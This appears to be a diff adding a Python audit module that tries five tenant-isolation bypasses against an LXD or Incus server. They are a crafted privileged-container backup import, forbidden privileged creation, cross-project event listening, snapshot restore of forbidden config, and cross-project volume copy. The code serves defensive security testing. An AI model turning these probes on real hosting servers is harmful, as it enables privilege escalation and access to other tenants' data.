@@ -1,0 +1,138 @@
+# Copyright (c) cloudhost.lxd contributors
+# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+
+"""The gaps of `_audit/gaps.py`, each tried on a real server with the certificate of a tenant."""
+
+from __future__ import annotations
+
+import io
+import json
+import tarfile
+from typing import Any, Callable
+
+from .daemon import Daemon
+from .tenant import Tenant
+
+BLUE, GREEN = "?project=blue", "?project=green"
+FORBIDDEN = {"security.privileged": "true"}
+#: What the quota of the tenants asks of each instance that is not made with their profile `default`.
+LIMITS = {"limits.cpu": "1", "limits.memory": "64MiB", "limits.processes": "100"}
+
+
+class Gaps:
+    """Blue has a stopped container `own`, and green one that is called `secret`, and a volume of the same name."""
+
+    def __init__(self, daemon: Daemon, blue: Tenant, pool: str) -> None:
+        self.daemon, self.blue, self.pool = daemon, blue, pool
+
+    def open(self) -> set[str]:
+        """Those that the server does not refuse. Nothing of the attempts is left."""
+        ways: dict[str, Callable[[], bool]] = {
+            "backup-import": self._imports,
+            "creation-in-cluster": self._creates,
+            "events": self._hears,
+            "snapshot-restore": self._restores,
+            "volume-copy": self._copies,
+        }
+        return {name for name, way in ways.items() if way()}
+
+    def _imports(self) -> bool:
+        product = {"lxd": "LXD", "incus": "Incus"}[self.daemon.kind]
+        headers = {"Content-Type": "application/octet-stream", f"X-{product}-name": "attack"}
+        self.blue.send("POST", f"/1.0/instances{BLUE}", backup(self.pool), headers)
+        return self._made()
+
+    def _creates(self) -> bool:
+        self.blue.send("POST", f"/1.0/instances{BLUE}", {**new("attack"), "config": FORBIDDEN})
+        return self._made()
+
+    def _made(self) -> bool:
+        """Whether there is a container that the project forbids, which ends here."""
+        made = self.daemon.query(f"/1.0/instances/attack{BLUE}", check=False)
+        if made:
+            assert made["config"].items() >= FORBIDDEN.items()
+            self.daemon.query(f"/1.0/instances/attack{BLUE}", "DELETE")
+        return bool(made)
+
+    def _hears(self) -> bool:
+        place = f"/1.0/instances/secret/snapshots{GREEN}"
+        heard = self.blue.heard(f"/1.0/events{GREEN}", lambda: self.daemon.query(place, "POST", {"name": "heard"}), 0.5)
+        if heard:  # else it was refused before
+            self.daemon.query(f"/1.0/instances/secret/snapshots/heard{GREEN}", "DELETE")
+        return b"secret" in heard
+
+    def _restores(self) -> bool:
+        """A snapshot with what is forbidden, as it comes with an instance from another server. Here the operator makes
+        it, which takes no other server.
+        """
+        place, project = f"/1.0/instances/own{BLUE}", self.daemon.query("/1.0/projects/blue")
+        own = self.daemon.query(place)
+        loose = {**project["config"], "restricted.containers.privilege": "allow"}
+        self.daemon.query("/1.0/projects/blue", "PUT", {**project, "config": loose})
+        self._put(place, {**own, "config": {**own["config"], **FORBIDDEN}})
+        self.daemon.query(f"/1.0/instances/own/snapshots{BLUE}", "POST", {"name": "forbidden"})
+        self._put(place, own)
+        self.daemon.query("/1.0/projects/blue", "PUT", project)
+        self.blue.send("PUT", place, {"restore": "forbidden"})
+        restored = self.daemon.query(place)["config"].items() >= FORBIDDEN.items()
+        self._put(place, own)
+        self.daemon.query(f"/1.0/instances/own/snapshots/forbidden{BLUE}", "DELETE")
+        return restored
+
+    def _put(self, place: str, instance: dict[str, Any]) -> None:
+        """Without what the server sets itself, which differs by then."""
+        config = {key: value for key, value in instance["config"].items() if not key.startswith("volatile.")}
+        now = self.daemon.query(place)["config"]
+        kept = {key: value for key, value in now.items() if key.startswith("volatile.")}
+        self.daemon.query(place, "PUT", {**instance, "config": {**config, **kept}})
+
+    def _copies(self) -> bool:
+        source = {"type": "copy", "name": "secret", "pool": self.pool, "project": "green"}
+        wanted = {"name": "attack", "type": "custom", "config": {"size": "16MiB"}, "source": source}
+        volumes = f"/1.0/storage-pools/{self.pool}/volumes/custom"
+        self.blue.send("POST", f"{volumes}{BLUE}", wanted)
+        copied = bool(self.daemon.query(f"{volumes}/attack{BLUE}", check=False))
+        if copied:
+            self.daemon.query(f"{volumes}/attack{BLUE}", "DELETE")
+        return copied
+
+
+def new(name: str) -> dict[str, Any]:
+    """An instance without an image."""
+    return {"name": name, "source": {"type": "none"}}
+
+
+def backup(pool: str) -> bytes:
+    """A backup of a privileged container without any file, as its owner can write one. JSON is YAML too."""
+    never = "2026-01-01T00:00:00Z"
+    devices = {"root": {"type": "disk", "path": "/", "pool": pool, "size": "16MiB"}}
+    config = {**LIMITS, **FORBIDDEN}
+    more = {"ephemeral": False, "stateful": False, "description": "", "created_at": never, "last_used_at": never}
+    container = {
+        **more,
+        "name": "attack",
+        "type": "container",
+        "architecture": "x86_64",
+        "profiles": [],
+        "config": config,
+        "expanded_config": config,
+        "devices": devices,
+        "expanded_devices": devices,
+    }
+    content = {
+        "container": container,
+        "pool": {"name": pool, "driver": "dir", "config": {}},
+        "volume": {"name": "attack", "type": "container", "content_type": "filesystem", "config": {}},
+    }
+    index = {"name": "attack", "backend": "dir", "pool": pool, "type": "container", "snapshots": [], "config": content}
+    index.update(optimized=False, optimized_header=False)
+    files = {"backup/index.yaml": index, "backup/container": None, "backup/container/backup.yaml": content}
+    packed = io.BytesIO()
+    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
+        for name, document in files.items():
+            member, data = tarfile.TarInfo(name), json.dumps(document).encode()
+            member.type = tarfile.REGTYPE if document else tarfile.DIRTYPE
+            member.size, member.mode = (len(data), 0o600) if document else (0, 0o711)
+            archive.addfile(member, io.BytesIO(data))
+    return packed.getvalue()
